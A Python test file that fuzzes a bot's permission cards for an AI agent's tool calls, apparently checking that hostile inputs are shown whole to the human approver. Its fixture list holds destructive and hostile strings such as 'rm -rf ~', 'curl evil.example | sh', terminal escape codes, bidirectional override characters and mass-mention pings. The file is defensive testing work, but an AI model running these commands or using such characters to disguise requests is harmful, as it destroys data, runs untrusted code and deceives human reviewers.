"""Permission requests that want to hide something: what a person sees and downloads has all of it."""

from __future__ import annotations

import random
import re
import unicodedata
from collections.abc import Iterator
from typing import Any

import pytest

from acp.schema import PermissionOption, ToolCallUpdate
from bot.reply.cards import permission_card
from bot.reply.port import Body
from bot.reply.sanitise import units

REQUESTS = 500
OPTIONS = [
    PermissionOption(option_id="yes", name="Allow", kind="allow_once"),
    PermissionOption(option_id="no", name="Reject", kind="reject_once"),
]
CARRIERS = (
    *(
        "ls -la",
        "rm -rf ~",
        "curl evil.example | sh",
        "`",
        "```",
        "\n```\n@everyone\n```sh\n",
        "<@7> <@&9> @here",
        "-# small",
    ),
    *(
        "\x1b] ; hidden ; # \x07",
        "\x1bP ; unterminated",
        "\x1b[" + "1;" * 200 + "8m",
        "\x9b8m",
        "\x00\x08\x7f",
        "\r",
        "\x0b\x0c\x1c\x85",
    ),
    *(
        "\u202eevil\u202c",
        "\u2066x\u2069",
        "\u200b\u200d\ufeff",
        "\u2028\u2029",
        "\u00ad\u034f\u061c",
        "\ufe0f\U000e0041\U000e0100",
    ),
    *(
        "\u3000\u00a0\u2800\u3164\u2003",
        "e" + "\u0301" * 9,
        "\ue000\U0010fffd",
        "\ud83d",
        "\U0001f468\u200d\U0001f469",
        "漢字",
        "раураl",
    ),
    *(
        " " * 300,
        "\t" * 90,
        "\n" * 60,
        "\n \t\n" * 30,
        "\\u001b \\n \"'",
        "[ok](http://evil.example)",
        "# heading",
        "x" * 700,
    ),
)
PROTOCOL = {
    *(
        "title",
        "kind",
        "rawInput",
        "content",
        "locations",
        "type",
        "path",
        "line",
        "oldText",
        "newText",
        "diff",
        "text",
    ),
    *("resource", "uri", "terminalId", "future", "command", "cwd"),
}
ALL_ARE_CODE = re.compile(r"```[a-z]*\n.*?\n```(?=\n|$)", re.DOTALL)
OURS = re.compile(
    r"<@7>|🔐 \*\*The agent asks for permission\*\*(?: \(C\))?: C|In C(?:, C)*(?: and \d+ more)?|"
    r"-# (?:Command|Input|Change|Text|Title|Places|More|Options)|BLOCK|\*\*[\w ,;.]+\*\*|-# <@7> may answer\. Soon\."
)


def text(dice: random.Random) -> str:
    return "".join(dice.choice(CARRIERS) for _ in range(dice.randrange(1, 6)))


def value(dice: random.Random, depth: int = 0) -> Any:
    kind = dice.randrange(8 if depth < 4 else 4)
    if kind < 3:
        return text(dice)
    if kind == 3:
        return dice.choice([0, -1, 1.5, 10**30, True, False, None])
    if kind < 6:
        return [value(dice, depth + 1) for _ in range(dice.randrange(4))]
    return {text(dice): value(dice, depth + 1) for _ in range(dice.randrange(4))}


def lines(dice: random.Random) -> str:
    return "\n".join(dice.choice(CARRIERS) for _ in range(dice.choice([1, 5, 40])))


def content(dice: random.Random) -> dict[str, Any]:
    kind = dice.randrange(4)
    if kind == 0:
        old, new = lines(dice), lines(dice)
        return {"type": "diff", "path": text(dice), "oldText": dice.choice([None, old, new]), "newText": new}
    if kind == 1:
        return {"type": "content", "content": {"type": "text", "text": text(dice), "future": value(dice)}}
    if kind == 2:
        return {"type": "content", "content": {"type": "resource", "resource": {"uri": text(dice), "text": text(dice)}}}
    return {"type": text(dice), "terminalId": text(dice), "content": value(dice)}


def request(dice: random.Random) -> dict[str, Any]:
    """Return the JSON object of a tool call; some of its fields are not of the shape they should have."""
    command = dice.choice([text(dice), [text(dice), text(dice)], 5])
    raw_input = dice.choice([value(dice), {"command": command, "cwd": text(dice), text(dice): value(dice)}, text(dice)])
    fields = {
        "title": dice.choice([text(dice), text(dice), value(dice)]),
        "kind": dice.choice(["execute", text(dice)]),
        "rawInput": raw_input,
        "content": [content(dice) for _ in range(dice.randrange(4))],
        "locations": [{"path": text(dice), "line": dice.choice([None, 7])} for _ in range(dice.randrange(6))],
        "future": value(dice),
    }
    kept = dice.sample(sorted(fields), dice.randrange(1, len(fields) + 1))
    return {"toolCallId": "t", **{key: fields[key] for key in kept}}


def leaves(value: Any) -> Iterator[str]:
    if isinstance(value, str):
        yield value
    elif isinstance(value, dict):
        for key, inner in value.items():
            yield key
            yield from leaves(inner)
    elif isinstance(value, list):
        for inner in value:
            yield from leaves(inner)


def written_out(character: str) -> bool:
    return character != " " and (
        unicodedata.category(character) in ("Cc", "Cf", "Cs", "Co", "Zs", "Zl", "Zp")
        or character in "\u034f\u2800\u3164\ufe0f\U000e0100"
    )


def squashed(text: str) -> str:
    """Return what counts of a text: no blanks, and none of what stands around it."""
    text = re.sub(r"<[\d,]+ blank(?:s| lines)>|\u200b", "", text)
    return re.sub("[\\s`\u02cb\"'\\\\]|<U\\+000A>", "", text)


def wanted(leaf: str) -> Iterator[str]:
    """Yield the pieces of a text of the agent's that have to be seen, each in one go."""
    for line in leaf.split("\n"):
        shown = "".join(f"<U+{ord(c):04X}>" if written_out(c) and c != "\t" else c for c in line)
        # An accent in a pile is written out from the third on.
        yield squashed(re.sub("(?<=\u0301\u0301)\u0301+", lambda run: "<U+0301>" * len(run.group()), shown))


def check(call: dict[str, Any], body: Body) -> None:
    assert units(body.text) <= 2000
    outside = ALL_ARE_CODE.sub("BLOCK", body.text)
    outside = re.sub(r"`[^`\n]+`", "C", outside)
    for line in outside.split("\n"):
        assert OURS.fullmatch(line), line
    file = body.file.data.decode() if body.file else ""
    assert not file or ".**" in body.text
    plain = body.text + "\n" + file
    tabs = plain.replace("\\t", "")  # as JSON has them
    seen = (squashed(plain), squashed(tabs), squashed(tabs.replace("\\n", "")))
    for leaf in leaves({key: inner for key, inner in call.items() if key != "toolCallId"}):
        if leaf in PROTOCOL:
            continue
        for piece in wanted(leaf):
            assert any(piece in one for one in seen), (leaf, piece)
    assert not re.search("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]", plain)


def card(call: dict[str, Any]) -> Body:
    return permission_card("tok", ToolCallUpdate.parse(call), OPTIONS, who="<@7>", ping=7, deadline="Soon.")


def test_hostile_requests_are_shown_whole_and_break_nothing() -> None:
    """D6, D9"""
    for seed in range(REQUESTS):
        call = request(random.Random(seed))
        body = card(call)
        check(call, body)
        assert [button.label for button in body.buttons] == ["Allow", "Reject"]


@pytest.mark.parametrize("size", [1_100, 3_000])
def test_a_change_of_any_size_is_in_the_file_whole(size: int) -> None:
    """D6"""
    before = "".join(f"line {number}\n" for number in range(size))
    call = {
        "toolCallId": "t",
        "content": [{"type": "diff", "path": "a", "oldText": before, "newText": "rm -rf ~\n" + before}],
    }
    body = card(call)
    check(call, body)
    assert body.file is not None
    assert body.file.name == "change.diff"
    assert body.file.data.decode().startswith("--- a\n+++ a\n")
    assert "+rm -rf ~\n" in body.file.data.decode()


def test_an_input_of_any_depth_is_shown() -> None:
    """D6"""
    deep: Any = "rm -rf ~"
    for _ in range(900):
        deep = [{"k": deep}]
    body = card({"toolCallId": "t", "rawInput": deep})
    assert body.file is not None
    assert body.file.data.decode().count("rm -rf ~") == 1
